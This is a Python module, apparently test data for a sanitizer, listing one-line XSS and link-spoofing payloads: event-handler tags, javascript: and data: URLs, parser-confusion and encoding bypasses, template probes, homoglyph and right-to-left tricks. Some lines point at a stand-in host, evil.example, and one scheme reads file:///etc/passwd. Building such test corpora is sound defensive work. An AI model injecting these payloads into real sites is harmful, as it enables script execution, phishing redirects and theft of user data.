"""Texts that try to become markup, scripts or misleading links. Each is one line."""

_SCRIPT = "alert(1)"
_HANDLERS = (
    *("img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio onerror"),
    *("details open ontoggle", "input autofocus onfocus", "select autofocus onfocus"),
    *("textarea autofocus onfocus", "marquee onstart", "div onpointerover", "a onclick"),
    *("button popovertarget=x onbeforetoggle", "object onerror", "iframe onload"),
    *("math onclick", "svg><animate onbegin", "svg><set onbegin", "style onload", "p onmouseover"),
)
_SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
    ),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4="),
    *("vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://example.org/1", "tel:112"),
    *("view-source:https://example.org", "intent://x#Intent;end", "ms-word:ofe|u|https://e.org"),
)
PAYLOADS = (
    *(f"<{handler}={_SCRIPT}>" for handler in _HANDLERS),
    *(f"[klik]({scheme})" for scheme in _SCHEMES),
    *(f'<a href="{scheme}">klik</a>' for scheme in _SCHEMES),
    *(f"![billede]({scheme})" for scheme in _SCHEMES[:4]),
    *(f"<{scheme}>" for scheme in _SCHEMES[:4]),
    # Elements that run, load or send.
    *("<script>alert(1)</script>", "<ScRiPt src=//evil.example>", "<script/x>alert(1)</script>"),
    *("<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    *('<iframe srcdoc="<script>alert(1)</script>">', "<embed src=//evil.example/x.swf>"),
    *(
        "<object data=javascript:alert(1)>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//e>",
    ),
    *('<meta http-equiv=refresh content="0;url=//evil.example">', "<style>@import'//e';</style>"),
    *(
        "<form action=//evil.example><button>Send</button>",
        "<input formaction=javascript:alert(1)>",
    ),
    *('<p style="background:url(javascript:alert(1))">', "<dialog open>Hej</dialog>", "<template>"),
    # SVG and MathML, and what parsers make of them the second time.
    *("<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x"),
    *(
        "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x>",
        "<svg><foreignObject><body onload=x>",
    ),
    *(
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        "<math href=javascript:x>",
    ),
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    *(
        "<listing>&lt;img src=x onerror=x&gt;</listing>",
        "<xmp><p title='</xmp><img src=x onerror=x>'>",
    ),
    # Out of an attribute, a comment, a text area, a title, a CDATA section.
    *('"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "--><script>alert(1)</script>"),
    *(
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "]]><script>x</script>",
    ),
    *(
        '" autofocus onfocus=alert(1) x="',
        "' onmouseover='alert(1)",
        "` onerror=alert(1)",
        "</script><b>",
    ),
    *(
        "{{ 7|add:7 }}",
        "{% debug %}",
        "${7*7}",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    ),
    # Encodings.
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "%3Cscript%3Ealert(1)"),
    *(
        "＜script＞alert(1)＜/script＞",
        "+ADw-script+AD4-alert(1)",
        "<\u0000script>alert(1)",
        "<img\x0conerror=x>",
    ),
    # Marks of Markdown around markup, and links within links.
    *(
        "**<img src=x onerror=x>**",
        "*[x](javascript:alert(1))*",
        "> <svg onload=alert(1)>",
        "- <script>x",
    ),
    *(
        "`<img src=x onerror=x>`",
        "```<script>x</script>```",
        "[x]: javascript:alert(1)",
        "[a](<javascript:x>)",
    ),
    *('https://example.org/"onmouseover="alert(1)', "https://example.org/<script>x</script>"),
    *("www.example.org/'><img/src=x/onerror=x>", 'mailto:a@example.org?subject="><script>x'),
    *(
        '"<script>x</script>"@example.org',
        "https://user:pw@evil.example/",
        "https://[::1]/<svg/onload=x>",
    ),
    # Right-to-left marks, joiners and letters of other scripts.
    *("\u202egnp.exe\u202c <img src=x>", "\u2066https://example.org\u2069", "https://exаmple.org/"),
    *("\u200bjavascript:alert(1)", "@\u202eAlice", "Ꭺdmin <b>", "\ufeff<script>x</script>"),
)
